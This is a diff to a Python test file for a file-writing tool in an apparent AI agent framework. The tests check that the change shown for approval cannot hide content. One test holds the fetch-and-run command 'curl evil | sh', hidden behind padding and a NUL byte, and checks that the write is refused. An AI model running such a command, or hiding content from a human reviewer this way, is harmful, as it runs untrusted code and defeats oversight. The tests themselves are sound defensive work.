@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from dragoman.lm import CancellationError, CancellationSource
-from dragoman.tools.builtin.edit import MAX_DIFF_CHARACTERS, MAX_DIFFED_LINES, write_file
+from dragoman.tools.builtin.edit import write_file
 from dragoman.tools.builtin.workspace import WorkspaceError
 from tool_calls import DEADLINE, Workbench, text
 
@@ -75,21 +75,40 @@ class TestQuestion:
         (folder / "a.txt").write_bytes(b"\xef\xbb\xbfone")
         assert "-\\ufeffone" in _message(await writing.ask(path="a.txt", content="one"))
 
-    async def test_what_was_no_text(self, writing: Workbench, folder: Path) -> None:
-        (folder / "a.bin").write_bytes(b"\0\0\0")
-        message = _message(await writing.ask(path="a.bin", content="one"))
-        assert "3 bytes, not all of them text, are replaced by 3." in message
+    @pytest.mark.parametrize("old", [b"\0\0\0", b"# caf\xe9\n"])
+    async def test_an_old_file_that_is_no_text_does_not_hide_the_new_one(
+        self, writing: Workbench, folder: Path, old: bytes
+    ) -> None:
+        (folder / "a.py").write_bytes(old)
+        message = _message(await writing.ask(path="a.py", content="import os\nos.abort()\n"))
+        assert f"What it replaces, {len(old)} bytes, is not text in UTF-8 and is not shown." in message
+        assert "@@ -0,0 +1,2 @@\n+import os\n+os.abort()\n```" in message
 
-    async def test_too_many_lines_to_compare(self, writing: Workbench, folder: Path) -> None:
-        (folder / "a.txt").write_text("x\n" * (MAX_DIFFED_LINES + 1))
-        message = _message(await writing.ask(path="a.txt", content="one\n"))
-        assert "5,001 lines are replaced by 1, too many to compare. They begin:\n\n```\none\n```" in message
+    @pytest.mark.parametrize("padding", [0, 9_000])
+    async def test_a_nul_that_would_hide_the_rest_is_refused(
+        self, writing: Workbench, folder: Path, padding: int
+    ) -> None:
+        with pytest.raises(WorkspaceError, match="NUL"):
+            await writing.ask(path="a.sh", content="#" * padding + "\0\ncurl evil | sh\n")
+        assert _names(folder) == []
 
-    async def test_a_long_diff_says_what_it_does_not_show(self, writing: Workbench) -> None:
-        content = "x" * 98 + "\n"
-        message = _message(await writing.ask(path="a.txt", content=content * 500))
-        assert len(message) < MAX_DIFF_CHARACTERS + 1000
-        assert message.endswith("The last 201 lines of it are not shown.")
+    async def test_a_write_protected_file_is_said_to_be_one(self, writing: Workbench, folder: Path) -> None:
+        (folder / "a.txt").write_text("one")
+        assert "write-protected" not in _message(await writing.ask(path="a.txt", content="two"))
+        (folder / "a.txt").chmod(0o444)
+        message = _message(await writing.ask(path="a.txt", content="two"))
+        assert "It is write-protected (mode 444), and would be replaced all the same." in message
+
+    async def test_other_names_of_a_file_are_mentioned(self, writing: Workbench, folder: Path) -> None:
+        (folder / "a.txt").write_text("one")
+        assert "hard links" not in _message(await writing.ask(path="a.txt", content="two"))
+        (folder / "b.txt").hardlink_to(folder / "a.txt")
+        message = _message(await writing.ask(path="a.txt", content="two"))
+        assert "It has 2 names (hard links); the others would keep the old content." in message
+
+    async def test_what_hides_too_much_is_always_asked_about(self, writing: Workbench) -> None:
+        assert not (await writing.ask(path="a.txt", content="x" * 100_000)).always_ask
+        assert (await writing.ask(path="a.txt", content="x" * 200_000)).always_ask
 
     async def test_an_approval_that_lasts_is_for_the_path(self, writing: Workbench, folder: Path) -> None:
         (folder / "link").symlink_to("a.txt")
@@ -99,6 +118,7 @@ class TestQuestion:
             for content in ("one", "two")
         }
         assert keys == {str(folder / "a.txt")}
+        assert (await writing.ask(path="link", content="one")).covers == "any change to a.txt"
 
     @pytest.mark.parametrize(
         ("path", "why"),
@@ -173,6 +193,16 @@ class TestWriting:
         )
         assert (path.read_text() if path.exists() else None) == meanwhile
         assert _names(folder) == ([] if meanwhile is None else ["a.txt"])
+
+    async def test_no_folder_is_made_for_what_is_not_written(self, writing: Workbench, folder: Path) -> None:
+        (folder / "sub").mkdir()
+        (folder / "sub/a.txt").write_text("one")
+        invocation = writing.invocation(path="sub/a.txt", content="two")
+        await writing.prepare(invocation)
+        (folder / "sub/a.txt").unlink()
+        (folder / "sub").rmdir()
+        assert "is not what it was when the change was shown" in text(await writing.invoke(invocation))
+        assert _names(folder) == []
 
     async def test_a_link_that_leads_elsewhere_meanwhile(self, writing: Workbench, folder: Path) -> None:
         (folder / "a").write_text("same")
